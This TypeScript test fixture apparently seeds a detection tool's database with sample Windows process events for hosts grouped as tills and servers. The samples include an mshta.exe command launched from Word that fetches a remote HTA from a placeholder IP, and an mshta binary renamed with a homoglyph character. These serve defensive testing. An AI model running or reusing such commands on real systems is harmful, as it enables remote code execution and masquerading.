import { beforeAll } from 'vitest'
import { type Pool, pool } from '@/lib/store/pool'
import { withTestDatabase } from '@/lib/store/test-database'
import { ingestExamples } from './ingest/example-use'
import { recompute } from './recompute/recompute'

/** The days of their use. */
export const EXAMPLE_WINDOW = { from: '2026-01-05', to: '2026-01-06' } as const
/** Of a list, everything on one page. */
export const WHOLE_LIST = {
  q: '',
  descending: true,
  page: 1,
  pageSize: 500,
  after: null,
  filters: {},
} as const

/** A database with them, computed. */
export function withExampleScreens(): void {
  withTestDatabase()
  beforeAll(async () => {
    await bringExampleScreens(pool())
    await recompute(pool())
  })
}

const MSHTA = 'C:\\Windows\\System32\\mshta.exe'
const NOTEPAD = 'C:\\Windows\\System32\\notepad.exe'
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'

/** For tests of screens: two tills and two servers in groups, two days of use; nothing is computed yet. */
async function bringExampleScreens(pool: Pool): Promise<void> {
  const day = (number: number, hour = 10) => `2026-01-${String(number).padStart(2, '0')}T${hour}:00:00Z`
  await ingestExamples(pool, [
    { host: 'till-1', at: day(5), image: MSHTA, commandLine: 'mshta.exe C:\\Apps\\form.hta' },
    {
      host: 'till-1',
      at: day(6, 11),
      image: MSHTA,
      commandLine: 'mshta.exe C:\\Apps\\form.hta',
      user: 'CORP\\ben',
    },
    {
      host: 'till-1',
      at: day(6),
      image: MSHTA,
      commandLine: 'mshta.exe http://203.0.113.9/a.hta',
      parentImage: WORD,
    },
    { host: 'till-2', at: day(6), image: NOTEPAD, commandLine: 'notepad.exe a.txt' },
    { host: 'srv-1', at: day(6), image: NOTEPAD, commandLine: null },
    {
      host: 'srv-2',
      at: day(5),
      image: 'C:\\Users\\Public\\hidd\u0435n.exe',
      originalFileName: 'MSHTA.EXE',
      commandLine: 'hidden.exe x.hta',
    },
  ])
  await pool.query("INSERT INTO host_group (id, name) VALUES (1, 'Tills'), (2, 'Servers')")
  await pool.query(
    `INSERT INTO host_group_member (host_id, group_id, valid_from)
     SELECT id, CASE WHEN name LIKE 'till%' THEN 1 ELSE 2 END, '1970-01-01' FROM host`,
  )
}
